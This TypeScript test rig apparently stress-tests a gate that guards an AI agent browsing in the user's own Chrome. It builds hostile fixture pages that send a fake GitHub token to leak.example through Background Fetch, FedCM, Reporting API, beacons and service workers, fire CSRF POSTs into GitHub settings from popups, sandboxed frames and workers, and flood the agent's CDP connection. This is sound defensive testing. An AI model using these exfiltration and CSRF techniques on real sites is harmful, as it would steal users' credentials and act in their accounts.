// The rig of the attacks on the user's Chrome (shared mode) behind the browser-wide Fetch gate
// (browser/browserFetchGate.ts), for test/e2e/userChrome*.test.ts: a Chrome of the user's with hostile fixture
// pages over TLS (popup bursts, Background Fetch, reports, nested sandboxed frames, workers, keepalive hops), and an
// obedient agent whose human approves what tabward predicted and refuses everything it did not. Call it inside a
// describe: it registers the suite's before and after.

import assert from 'node:assert/strict';
import type { ServerResponse } from 'node:http';
import { after, before } from 'node:test';
import { gzipSync } from 'node:zlib';
import { startUserChrome, type UserChrome } from '../../src/demo/yourChrome.ts';
import { type Fixture, html, type Seen, startFixture, testChromeArgs } from './fixtureServer.ts';
import { type InProcessBrowser, type InProcessMcp, startInProcess } from './inProcessMcp.ts';
import { refOf } from './mcpClient.ts';

export const token = 'ghp_attackUserChrome31337';

export function userChromeRig() {
  let site: Fixture;
  let chrome: UserChrome;
  let tabward: InProcessBrowser | undefined;
  let mcp: InProcessMcp | undefined;
  const url = (host: string, path: string) => site.url(host, path);
  const arrived = (path: string) => site.seen.filter((request) => request.path.startsWith(path));
  const shown = (requests: readonly Seen[]) =>
    requests
      .map(
        (r) =>
          `${r.method} ${r.host}${r.path} ${r.body.slice(0, 120)}${r.cookie ? ` [cookie: ${r.cookie}]` : ''}`,
      )
      .join('\n');
  const quietly = (ms: number) => new Promise((done) => setTimeout(done, ms));
  const js = (res: ServerResponse, body: string): void => {
    res.writeHead(200, { 'content-type': 'text/javascript' }).end(body);
  };
  const json = (res: ServerResponse, body: string): void => {
    res.writeHead(200, { 'content-type': 'application/json' }).end(body);
  };
  /** A cross-origin endpoint that answers any CORS preflight (the attacker's own server). */
  const permissive = (res: ServerResponse): void => {
    res
      .writeHead(204, {
        'access-control-allow-origin': '*',
        'access-control-allow-methods': 'POST, GET, PUT, DELETE',
        'access-control-allow-headers': '*',
      })
      .end();
  };
  /**
   * In page script: a no-cors POST into GitHub's settings, marked by where it came from (an absolute address: a
   * srcdoc or opaque-origin worker has no port of its own to build it from).
   */
  const postInto = (from: string) =>
    `fetch('https://github.com:${site.port}/settings/delete?from=${from}', { method: 'POST', mode: 'no-cors', body: 'x' }).catch(() => {})`;
  /** In page script: a GET that tells the test the script ran (a host no rule marks and no taint covers). */
  const ranMark = (from: string) =>
    `fetch('https://ads.example:${site.port}/ran?${from}', { mode: 'no-cors' }).catch(() => {})`;
  /** A page with a Note field: what the agent types there is handed to `send(value)`. */
  const notePage = (title: string, send: string) =>
    `<title>${title}</title><body><label>Note <input id=note></label><script>const L = (p) => 'https://leak.example:' + location.port + p;
    const send = ${send};
    document.getElementById('note').addEventListener('input', (e) => { if (e.target.value.length > 10) send(e.target.value) });</script>`;

  before(async () => {
    site = await startFixture(
      {
        '/settings/tokens': (_req, _body, res) => html(res, `<title>Tokens</title><p>${token}</p>`),
        '/settings/delete': (_req, _body, res) => html(res, '<title>deleted</title>'),
        '/settings/admin': (_req, _body, res) => html(res, '<title>admin</title>'),
        // The user is logged in to GitHub in their Chrome.
        '/mine': (_req, _body, res) =>
          html(res, '<title>Mine</title><p>the user’s page</p>', 200, {
            'set-cookie': [
              'user_session=lax-session; Secure; SameSite=Lax; Path=/',
              'gh_none=none-session; Secure; SameSite=None; Path=/',
            ] as unknown as string,
          }),
        // --- popups ---
        // The same link, with a cross-site frame that floods tabward's CDP connection with console messages as the
        // link is clicked: the popup's watch is set up behind them.
        '/opens-link-flood': (_req, _body, res) =>
          html(
            res,
            `<title>Docs</title><body><a href="/burst" target="_blank" onclick="frames[0].postMessage('go', '*')">Open help</a><iframe src="${url('ads.example', '/flood')}"></iframe>`,
          ),
        '/flood': (_req, _body, res) =>
          html(
            res,
            `<title>flood</title><script>onmessage = () => { const big = 'x'.repeat(2000); const end = Date.now() + 1500; const tick = () => { for (let i = 0; i < 300; i++) console.log(big, i); if (Date.now() < end) setTimeout(tick, 0) }; tick() }</script>`,
          ),
        '/burst': (_req, _body, res) =>
          html(
            res,
            `<title>burst</title><script>${postInto('popup-burst-first')}; let n = 0; const t = setInterval(() => { ${postInto("popup-burst' + n++ + '")}; if (n > 200) clearInterval(t) }, 5)</script>`,
          ),
        // The agent's tab closes itself as the popup opens: the popup's opener is gone when tabward asks for it.
        '/opens-and-closes': (_req, _body, res) =>
          html(res, '<title>Docs</title><body><a href="/middle" target="_blank">Open help</a>'),
        // A popup (one history entry: script-closable) whose link opens another and closes itself.
        '/middle': (_req, _body, res) =>
          html(
            res,
            '<title>Middle</title><body><a href="/lingering?from=closes" target="_blank" onclick="setTimeout(() => window.close(), 0)">Continue</a>',
          ),
        '/lingering': (req, _body, res) => {
          const from = new URL(req.url ?? '', 'http://x').searchParams.get('from') ?? 'x';
          html(
            res,
            `<title>Help</title><p>help</p><script>setTimeout(() => { ${postInto(`lingering-${from}`)}; fetch('/lingering-ran?${from}') }, 1500); setTimeout(() => { const f = document.createElement('form'); f.method = 'POST'; f.action = 'https://github.com:' + location.port + '/settings/delete?from=lingering-${from}-form'; document.body.append(f); f.submit() }, 2500)</script>`,
          );
        },
        // A page that is told a note over a BroadcastChannel sends it home (an ordinary fetch, which any hook of
        // tabward's would judge).
        '/sends-home': (_req, _body, res) =>
          html(
            res,
            `<title>Help</title><p>help</p><script>new BroadcastChannel('notes').onmessage = (e) => fetch('https://leak.example:' + location.port + '/home?d=' + encodeURIComponent(e.data), { mode: 'no-cors' })</script>`,
          ),
        // The agent's own tab: what is typed into its Note goes over a BroadcastChannel, never onto the network.
        '/broadcasts': (_req, _body, res) =>
          html(res, notePage('Notes', `(v) => new BroadcastChannel('notes').postMessage(v)`)),
        // The link is in a cross-site frame of the agent's page: the popup's opener is that frame's process.
        '/frame-link': (_req, _body, res) =>
          html(
            res,
            `<title>Docs</title><p>docs</p><iframe src="${url('ads.example', '/ad-link')}"></iframe>`,
          ),
        '/ad-link': (_req, _body, res) =>
          html(
            res,
            '<title>ad</title><body><a href="/lingering?from=frame" target="_blank">Sponsored help</a>',
          ),
        '/opens-home': (_req, _body, res) =>
          html(res, '<title>Docs</title><body><a href="/middle-home" target="_blank">Open help</a>'),
        '/middle-home': (_req, _body, res) =>
          html(
            res,
            '<title>Middle</title><body><a href="/sends-home" target="_blank" onclick="setTimeout(() => window.close(), 0)">Continue</a>',
          ),
        '/opens-nav-flood': (_req, _body, res) =>
          html(
            res,
            `<title>Docs</title><body><a href="/hop" target="_blank" onclick="frames[0].postMessage('go', '*')">Open help</a><iframe src="${url('ads.example', '/flood')}"></iframe>`,
          ),
        '/hop': (_req, _body, res) =>
          html(
            res,
            `<title>hop</title><script>location.replace('https://github.com:' + location.port + '/settings/admin?from=popup-nav')</script>`,
          ),
        // --- background fetch ---
        '/sw.js': (_req, _body, res) =>
          js(
            res,
            "self.addEventListener('fetch', () => {}); for (const name of ['backgroundfetchsuccess', 'backgroundfetchfail', 'backgroundfetchabort']) self.addEventListener(name, (e) => fetch('/bgfetch-done?' + name + '=' + e.registration.failureReason).catch(() => {}));",
          ),
        '/bgfetch-post': (_req, _body, res) =>
          html(
            res,
            `<title>bgfetch</title><script>navigator.serviceWorker.register('/sw.js').then(async () => { const reg = await navigator.serviceWorker.ready;
              const request = new Request('https://github.com:' + location.port + '/settings/delete?from=bgfetch', { method: 'POST', body: 'delete' });
              try { await reg.backgroundFetch.fetch('bg-' + Math.random(), [request]); fetch('/err?bgfetch-post=started') } catch (e) { fetch('/err?bgfetch-post=' + encodeURIComponent(e)) }
              })</script>`,
          ),
        '/bgfetch-leak': (_req, _body, res) =>
          html(
            res,
            notePage(
              'Notes',
              `(v) => navigator.serviceWorker.register('/sw.js').then(async () => { const reg = await navigator.serviceWorker.ready;
                await reg.backgroundFetch.fetch('leak-' + Math.random(), [L('/bgfetch?d=' + encodeURIComponent(v))]) }).catch((e) => fetch('/err?bgfetch=' + encodeURIComponent(e)))`,
            ),
          ),
        // A service worker given what the agent typed keeps trying to send it home, as long as it lives.
        '/keeper': (_req, _body, res) =>
          html(
            res,
            `${notePage('Notes', `(v) => navigator.serviceWorker.ready.then((reg) => reg.active.postMessage(v))`)}<script>navigator.serviceWorker.register('/keeper-sw.js').then(() => navigator.serviceWorker.ready).then(() => fetch('/keeper-ready'))</script>`,
          ),
        '/keeper-sw.js': (_req, _body, res) =>
          js(
            res,
            `self.addEventListener('install', () => self.skipWaiting());
             self.addEventListener('message', (e) => e.waitUntil((async () => { const end = Date.now() + 60000;
               while (Date.now() < end) { await fetch('https://leak.example:' + location.port + '/swhome?d=' + encodeURIComponent(e.data), { mode: 'no-cors' }).catch(() => {}); await new Promise((r) => setTimeout(r, 200)) } })()));`,
          ),
        // A page whose pagehide keepalive POST goes to its own server, which answers slowly with a 307 into GitHub.
        '/slow-hop-page': (_req, _body, res) =>
          html(
            res,
            `<title>Repo</title><p>readme</p><script>addEventListener('pagehide', () => fetch('/slow-hop' + location.search, { method: 'POST', keepalive: true, body: 'x' }).catch(() => {}))</script>`,
          ),
        '/slow-hop-repo': (_req, _body, res) =>
          html(
            res,
            `<title>Repo</title><p>readme</p><div id="ads"><iframe src="${url('ads.example', '/slow-hop-page?frame')}"></iframe></div>
            <button onclick="document.getElementById('ads').remove()">Hide ads</button>`,
          ),
        '/slow-hop': (req, _body, res) => {
          const from = new URL(req.url ?? '', 'http://x').search.slice(1);
          setTimeout(
            () =>
              res
                .writeHead(307, {
                  location: site.url('github.com', `/settings/delete?from=slow-hop${from ? `-${from}` : ''}`),
                })
                .end(),
            2_500,
          );
        },
        // --- FedCM ---
        '/fedcm-leak': (_req, _body, res) =>
          html(
            res,
            notePage(
              'Notes',
              `(v) => navigator.credentials.get({ identity: { providers: [{ configURL: L('/fedcm.json?d=' + encodeURIComponent(v)), clientId: 'x' }] } }).catch(() => {})`,
            ),
          ),
        '/fedcm.json': (_req, _body, res) => json(res, '{}'),
        // --- Reporting API ---
        '/report-leak': (_req, _body, res) =>
          html(
            res,
            notePage(
              'Notes',
              `(v) => { const img = new Image(); img.src = 'https://blocked.example:' + location.port + '/pixel?d=' + encodeURIComponent(v); document.body.append(img) }`,
            ),
            200,
            {
              'content-security-policy': "img-src 'self'; report-to default",
              'reporting-endpoints': `default="${site.url('leak.example', '/report-to')}"`,
            },
          ),
        // The same page compressed (its body as the network service decodes it is what tabward answers with).
        '/report-leak-gzip': (_req, _body, res) => {
          const page = notePage(
            'Notes',
            `(v) => { const img = new Image(); img.src = 'https://blocked.example:' + location.port + '/pixel?d=' + encodeURIComponent(v); document.body.append(img) }`,
          );
          res
            .writeHead(200, {
              'content-type': 'text/html; charset=utf-8',
              'content-encoding': 'gzip',
              'content-security-policy': "img-src 'self'; report-to default",
              'reporting-endpoints': `default="${site.url('leak.example', '/report-to?from=gzip')}"`,
            })
            .end(gzipSync(page));
        },
        'OPTIONS /report-to': (_req, _body, res) => permissive(res),
        '/report-uri-leak': (_req, _body, res) =>
          html(
            res,
            notePage(
              'Notes',
              `(v) => { const img = new Image(); img.src = 'https://blocked.example:' + location.port + '/pixel?d=' + encodeURIComponent(v); document.body.append(img) }`,
            ),
            200,
            {
              'content-security-policy': `img-src 'self'; report-uri ${site.url('leak.example', '/report-uri')}`,
            },
          ),
        'OPTIONS /report-uri': (_req, _body, res) => permissive(res),
        // --- nested sandboxed frames ---
        '/nest-repo': (_req, _body, res) =>
          html(
            res,
            `<title>Repo</title><p>readme</p><iframe src="${url('ads.example', '/nest-outer')}"></iframe>`,
          ),
        // The same, the page flooding tabward's connection with console messages as it inserts the frame.
        '/nest-repo-flood': (_req, _body, res) =>
          html(
            res,
            `<title>Repo</title><p>readme</p><body><script>const f = document.createElement('iframe'); f.src = ${JSON.stringify(url('ads.example', '/nest-outer'))}; document.body.append(f);
              const big = 'x'.repeat(2000); const end = Date.now() + 1500; const tick = () => { for (let i = 0; i < 300; i++) console.log(big, i); if (Date.now() < end) setTimeout(tick, 0) }; tick()</script>`,
          ),
        '/nest-outer': (_req, _body, res) =>
          html(
            res,
            `<title>outer</title><body><script>const f = document.createElement('iframe'); f.sandbox = 'allow-scripts';
              f.srcdoc = "<script>let n = 0; const t = setInterval(() => { ${postInto("sandboxed-grandchild' + n++ + '").replaceAll('"', '&quot;')}; if (n > 300) clearInterval(t) }, 5); ${ranMark('grandchild')}<\\/script>";
              document.body.append(f)</script>`,
          ),
        // A sandboxed srcdoc frame (a process of its own in the user's Chrome) holding a cross-site frame, holding a
        // sandboxed srcdoc frame again, whose script posts into GitHub's settings from its first moment.
        '/deep-repo': (_req, _body, res) =>
          html(
            res,
            `<title>Repo</title><p>readme</p><iframe sandbox="allow-scripts" srcdoc="<iframe src='${url('tracker.example', '/deep-middle')}'></iframe>"></iframe>`,
          ),
        '/deep-middle': (_req, _body, res) =>
          html(
            res,
            `<title>middle</title><body><script>const f = document.createElement('iframe'); f.sandbox = 'allow-scripts';
              f.srcdoc = "<script>let n = 0; const t = setInterval(() => { ${postInto("deep' + n++ + '")}; if (n > 300) clearInterval(t) }, 5); ${ranMark('deep')}<\\/script>";
              document.body.append(f); new Worker(URL.createObjectURL(new Blob([${JSON.stringify(`${postInto('deep-worker')}; ${ranMark('deep-worker')}`)}], { type: 'text/javascript' })))</script>`,
          ),
        // A sandboxed srcdoc frame (a process of its own) whose dedicated workers post into GitHub's settings.
        '/sandbox-worker': (_req, _body, res) =>
          html(
            res,
            `<title>Repo</title><p>readme</p><body><script>const f = document.createElement('iframe'); f.sandbox = 'allow-scripts';
              const work = ${JSON.stringify(`setTimeout(() => ${postInto('sandbox-worker-late')}, 1000); ${postInto('sandbox-worker')}; ${ranMark('sandbox-worker')}`)};
              f.srcdoc = '<script>new Worker(URL.createObjectURL(new Blob([' + JSON.stringify(work) + '], { type: "text/javascript" }))); new Worker("data:text/javascript," + encodeURIComponent(' + JSON.stringify(work.replaceAll('sandbox-worker', 'sandbox-data-worker')) + '))<\\/script>';
              document.body.append(f)</script>`,
          ),
        // --- initiators a hook should see, after a read ---
        '/initiators': (_req, _body, res) =>
          html(
            res,
            notePage(
              'Notes',
              `(v) => { const d = encodeURIComponent(v);
                const add = (tag, attrs) => { const e = document.createElement(tag); Object.assign(e, attrs); document.head.append(e); return e };
                add('link', { rel: 'prefetch', href: L('/i/prefetch?d=' + d) });
                add('link', { rel: 'icon', href: L('/i/icon?d=' + d) });
                add('link', { rel: 'manifest', href: L('/i/manifest?d=' + d) });
                add('link', { rel: 'preload', as: 'image', href: L('/i/preload?d=' + d) });
                try { new EventSource(L('/i/es?d=' + d)) } catch {}
                const st = document.createElement('style'); st.textContent = '@font-face { font-family: X; src: url(' + L('/i/font?d=' + d) + ') } body { font-family: X; background: url(' + L('/i/bg?d=' + d) + ') }'; document.head.append(st);
                navigator.sendBeacon(L('/i/beacon?d=' + d), d);
                new Worker(URL.createObjectURL(new Blob(["fetch('" + L('/i/worker?d=' + d) + "', { keepalive: true, mode: 'no-cors' })"], { type: 'text/javascript' })));
                const f = document.createElement('iframe'); f.sandbox = 'allow-scripts'; f.srcdoc = '<img src="' + L('/i/sandboxed?d=' + d) + '">'; document.body.append(f);
                const a = document.createElement('a'); a.href = '#'; a.ping = L('/i/ping?d=' + d); a.textContent = 'x'; document.body.append(a); a.click();
              }`,
            ),
          ),
      },
      { tls: true },
    );
    chrome = await startUserChrome({ chromeArgs: testChromeArgs, openTab: url('github.com', '/mine') });
  });
  after(async () => {
    await mcp?.close();
    await tabward?.close();
    await chrome?.close();
    await site?.close();
  });

  async function agent(): Promise<InProcessMcp> {
    await mcp?.close();
    tabward ??= await startInProcess({ mode: 'shared', wsEndpoint: chrome.wsEndpoint });
    const fresh = await tabward.connect();
    // The human approves what tabward predicted and asked about (a click, a fill into a page it names as allowed
    // from then on), and refuses every request tabward did not predict.
    fresh.human.policy = (message) => ({ decision: /did not predict/.test(message) ? 'reject' : 'approve' });
    mcp = fresh;
    return fresh;
  }

  /** The agent reads GitHub's token page (the session is tainted from here on). */
  async function readTokens(agentMcp: InProcessMcp): Promise<void> {
    const opened = await agentMcp.call('new_page', { url: url('github.com', '/settings/tokens') });
    assert.equal(opened.isError, false, opened.text);
    assert.match((await agentMcp.call('take_snapshot')).text, new RegExp(token));
  }

  /** A page of the agent's opened before the read; after it the agent types the token into its Note field. */
  async function typeTokenInto(agentMcp: InProcessMcp, path: string, host = 'evil.example'): Promise<string> {
    const opened = await agentMcp.call('new_page', { url: url(host, path) });
    assert.equal(opened.isError, false, opened.text);
    const tab = /Tab (p\d+)/.exec(opened.text)?.[1] ?? '';
    await readTokens(agentMcp);
    await agentMcp.call('select_page', { pageId: tab });
    const snapshot = await agentMcp.call('take_snapshot');
    const typed = await agentMcp.call('fill', { ref: refOf(snapshot.text, 'Note'), value: token });
    return typed.text;
  }

  /** tabward goes (the agent's connection with it) while the user's Chrome stays: the next agent() starts it again. */
  async function closeTabward(agentMcp: InProcessMcp): Promise<void> {
    await tabward?.close();
    tabward = undefined;
    await agentMcp.close();
    mcp = undefined;
  }

  return {
    /** The fixture server (its `seen` requests), once the suite started. */
    get site(): Fixture {
      return site;
    },
    url,
    arrived,
    shown,
    quietly,
    agent,
    readTokens,
    typeTokenInto,
    closeTabward,
  };
}
